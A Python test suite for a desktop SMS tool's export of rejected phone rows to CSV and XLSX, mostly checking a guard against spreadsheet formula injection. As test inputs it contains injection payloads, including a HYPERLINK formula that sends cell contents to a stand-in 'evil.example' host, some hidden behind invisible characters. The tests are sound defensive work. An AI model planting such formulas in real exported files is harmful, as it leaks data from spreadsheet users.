"""Exporting rejected rows: CSV with BOM and formula guard, XLSX from our own writer, readable by Excel's readers and by our importer."""

from __future__ import annotations

import csv

import openpyxl
import pytest
import python_calamine
from hypothesis import given, settings
from hypothesis import strategies as st

from kwtsms_desktop.importing import (
    ImportFailed,
    Rejected,
    build_recipients,
    detect_phone_column,
    export_rejected,
    read_table,
    table_from_text,
)
from kwtsms_desktop.importing.export import guard_formula
from kwtsms_desktop.importing.xlsx_writer import column_letter, write_xlsx

REJECTED = [
    Rejected(3, '=HYPERLINK("http://x")', "This is not a phone number: no digits found."),
    Rejected(5, "+96512", "This number is too short."),
    Rejected(7, "@SUM(A1)", "رقم غير صالح"),
    Rejected(9, "-5", "Too short."),
    Rejected(11, "\tTAB", "x"),
]


def test_csv_has_bom_crlf_arabic_and_every_formula_start_guarded(tmp_path):
    path = tmp_path / "rejected.csv"
    assert export_rejected(REJECTED, path) == 5
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    with open(path, encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows[0] == ["Row in file", "Phone as written", "Problem"]
    assert [row[1] for row in rows[1:]] == ['\'=HYPERLINK("http://x")', "'+96512", "'@SUM(A1)", "'-5", "'\tTAB"]
    assert rows[3][2] == "رقم غير صالح"
    assert [row[0] for row in rows[1:]] == ["3", "5", "7", "9", "11"]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tTAB", "\rx", "＝1"])
def test_guard_formula_prefixes_dangerous_starts(text):
    assert guard_formula(text) == "'" + text


@pytest.mark.parametrize(
    "hidden",
    [
        "\x00",
        " ",
        "   ",
        "\xa0",
        "\u200b",
        "\ufeff",
        "\u200e",
        "\u200f",
        "\u2066",
        "\u200d",
        "\t",
        "\r\n",
        "\x00 \ufeff\u200b\xa0",
    ],
)
def test_invisible_characters_before_a_formula_are_removed_and_the_formula_guarded(hidden):
    assert guard_formula(hidden + '=HYPERLINK("http://evil","x")') == '\'=HYPERLINK("http://evil","x")'
    assert guard_formula(hidden + "+1") == "'+1"


@pytest.mark.parametrize("text", ["98765432", "Ali", "", "a=b", " Ali", "\u200fأحمد", "1-2"])
def test_guard_formula_leaves_safe_cells(text):
    assert guard_formula(text) == text


def test_a_phone_number_with_plus_is_guarded_as_text_and_imports_again(tmp_path):
    # +96598765432 would otherwise be the arithmetic 96598765432 in some spreadsheets; as text it is kept.
    assert guard_formula("+96598765432") == "'+96598765432"
    path = tmp_path / "numbers.csv"
    export_rejected([Rejected(2, "+96598765432", "x")], path)
    table = read_table(path)
    result = build_recipients(table, detect_phone_column(table))
    assert [r.number for r in result.valid] == ["96598765432"]


def test_csv_and_xlsx_exports_never_hold_a_live_formula_behind_a_nul(tmp_path):
    payload = '\x00=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rejected = [Rejected(2, payload, "x"), Rejected(3, "\ufeff\xa0 =1+1", "x"), Rejected(4, "+96598765432", "x")]
    csv_path, xlsx_path = tmp_path / "r.csv", tmp_path / "r.xlsx"
    export_rejected(rejected, csv_path)
    with open(csv_path, encoding="utf-8-sig", newline="") as stream:
        cells = [row[1] for row in csv.reader(stream)][1:]
    assert cells == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'=1+1", "'+96598765432"]
    export_rejected(rejected, xlsx_path)
    sheet = openpyxl.load_workbook(xlsx_path).active
    assert [sheet.cell(row, 2).value for row in (2, 3, 4)] == [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=1+1",
        "+96598765432",
    ]
    for row in (2, 3, 4):
        assert sheet.cell(row, 2).data_type == "s" and sheet.cell(row, 2).quotePrefix  # text, marked as such
    assert not sheet.cell(2, 3).quotePrefix


@settings(max_examples=300, deadline=None)
@given(
    st.text(
        alphabet=st.sampled_from(
            ["\x00", " ", "\xa0", "\u200b", "\ufeff", "\u200e", "\t", "\r", "=", "+", "-", "@", "a", "1", "＝"]
        ),
        max_size=8,
    )
)
def test_no_guarded_cell_starts_a_formula_whatever_hides_in_front(text):
    guarded = guard_formula(text)
    if guarded.startswith("'"):
        return
    visible = guarded.lstrip("\x00 \xa0\u200b\ufeff\u200e\t\r")
    assert not visible.startswith(("=", "+", "-", "@", "＝"))


def test_xlsx_export_reads_back_with_openpyxl_and_calamine(tmp_path):
    path = tmp_path / "rejected.xlsx"
    assert export_rejected(REJECTED, path) == 5
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet.title == "Rejected rows"
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["Row in file", "Phone as written", "Problem"]
    assert values[1] == [3, '=HYPERLINK("http://x")', "This is not a phone number: no digits found."]
    assert sheet["B2"].data_type == "s"  # text, never a live formula
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b
    rows = python_calamine.CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert rows[3] == [7.0, "@SUM(A1)", "رقم غير صالح"]


def test_exported_table_rows_can_be_fixed_and_reimported(tmp_path):
    table = table_from_text("Name\tMobile\nAli\t98765432\nSara\t123\nMona\t=cmd\n")
    result = build_recipients(table, detect_phone_column(table), 0)
    assert [r.row for r in result.invalid] == [3, 4]
    for suffix in ("csv", "xlsx"):
        path = tmp_path / f"fix.{suffix}"
        export_rejected(result.invalid, path, table)
        again = read_table(path)
        assert again.headers == ["Name", "Mobile", "Row in file", "Problem"]
        assert [row[0] for row in again.rows] == ["Sara", "Mona"]
        assert [row[2] for row in again.rows] == ["3", "4"]
        assert detect_phone_column(again) == 1


def test_xlsx_writer_types_escaping_and_many_columns(tmp_path):
    path = tmp_path / "w.xlsx"
    headers = [f"H{i}" for i in range(30)]
    rows = [
        ["<&>\"'", "96598765432", 42, 1.5, True, None, "bad\x01char", "تجربة"] + [""] * 22,
        [str(i) for i in range(30)],
    ]
    assert write_xlsx(path, headers, rows, sheet_name="Results: 1/2") == 2
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet.title == "Results  1 2"
    assert [cell.value for cell in sheet[2]][:8] == ["<&>\"'", "96598765432", 42, 1.5, True, None, "badchar", "تجربة"]
    assert sheet["AD3"].value == "29"
    table = read_table(path)
    assert table.rows[0][1] == "96598765432"
    assert table.rows[0][2] == "42"
    assert (
        column_letter(0) == "A"
        and column_letter(25) == "Z"
        and column_letter(26) == "AA"
        and column_letter(701) == "ZZ"
    )


def test_xlsx_writer_streams_a_large_export(tmp_path):
    path = tmp_path / "big.xlsx"
    count = write_xlsx(path, ["Number", "Name"], ([f"965000{i:05d}", f"اسم {i}"] for i in range(20000)))
    assert count == 20000
    sheet = python_calamine.CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0)
    rows = sheet.to_python()
    assert len(rows) == 20001 and rows[-1] == ["96500019999", "اسم 19999"]
    assert not (tmp_path / "big.xlsx.part").exists()


def test_arabic_headers_make_the_sheet_right_to_left(tmp_path):
    path = tmp_path / "rtl.xlsx"
    write_xlsx(path, ["الاسم", "الجوال"], [["أحمد", "98765432"]])
    assert openpyxl.load_workbook(path).active.sheet_view.rightToLeft


def test_export_into_a_missing_folder_fails_with_a_sentence(tmp_path):
    with pytest.raises(ImportFailed, match="folder does not exist"):
        export_rejected(REJECTED, tmp_path / "nope" / "x.csv")
    with pytest.raises(ImportFailed, match="could not be saved"):
        export_rejected(REJECTED, tmp_path / "nope" / "x.xlsx")
